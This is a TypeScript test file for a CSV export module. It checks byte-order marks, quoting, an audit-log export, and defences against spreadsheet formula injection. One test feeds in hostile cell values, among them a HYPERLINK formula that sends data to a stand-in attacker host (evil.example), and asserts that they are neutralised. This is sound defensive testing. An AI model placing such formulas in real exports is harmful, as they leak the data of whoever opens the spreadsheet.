// The CSV an office opens in Excel on Chinese Windows: UTF-8 with a byte-order mark (without it
// Excel reads the names as GBK and shows mojibake), CRLF line ends, fields quoted as needed, and
// no cell a spreadsheet would run as a formula.
import { auditCsv, toCsv } from '../../exports/csv';

describe('CSV for spreadsheets', () => {
  test('the file starts with the UTF-8 byte-order mark, so Excel reads the Chinese', () => {
    const bytes = Buffer.from(toCsv(['支部'], [['第一中学党支部']]), 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe('支部\r\n第一中学党支部\r\n');
  });

  test('a field with a comma, a quote or a line break is quoted; empty values stay empty', () => {
    const text = toCsv(
      ['a', 'b', 'c', 'd'],
      [
        ['一,二', '说"好"', '上\n下', null],
        [0, undefined, '', 3.5],
      ],
    );
    expect(text.slice(1).split('\r\n')).toEqual(['a,b,c,d', '"一,二","说""好""","上\n下",', '0,,,3.5', '']);
  });

  test('a text a spreadsheet would run as a formula is written to show as typed; numbers stay numbers', () => {
    const typed = ['=1+1', '@SUM(1+1)', '=HYPERLINK("http://evil.example/?leak","点这里")', '+86 10', '-1', '\tcmd', '\r=1'];
    const text = toCsv(['报告内容'], [...typed.map((value) => [value]), [-1], ['党员 12 名']]);
    const cells = text.slice(1).split('\r\n').slice(1, -1);
    expect(cells).toEqual([
      "'=1+1",
      "'@SUM(1+1)",
      '"\'=HYPERLINK(""http://evil.example/?leak"",""点这里"")"',
      "'+86 10",
      "'-1",
      "'\tcmd",
      '"\'\r=1"',
      '-1',
      '党员 12 名',
    ]);
  });

  test('the record exports one row per event with its hash', () => {
    const at = new Date('2026-11-25T08:00:00.000Z');
    const text = auditCsv([
      {
        id: 1,
        occurredAt: at,
        actorEmail: 'a@b.example',
        onBehalfOf: null,
        action: 'report.assigned',
        channel: 'workflow',
        reportId: 'demo/x',
        versionNumber: null,
        detailJson: '{"k":1}',
        hash: 'h',
      },
    ]);
    expect(text.slice(1).split('\r\n')).toEqual([
      'id,occurredAt,actor,onBehalfOf,action,channel,report,version,detail,hash',
      '1,2026-11-25T08:00:00.000Z,a@b.example,,report.assigned,workflow,demo/x,,"{""k"":1}",h',
      '',
    ]);
  });
});
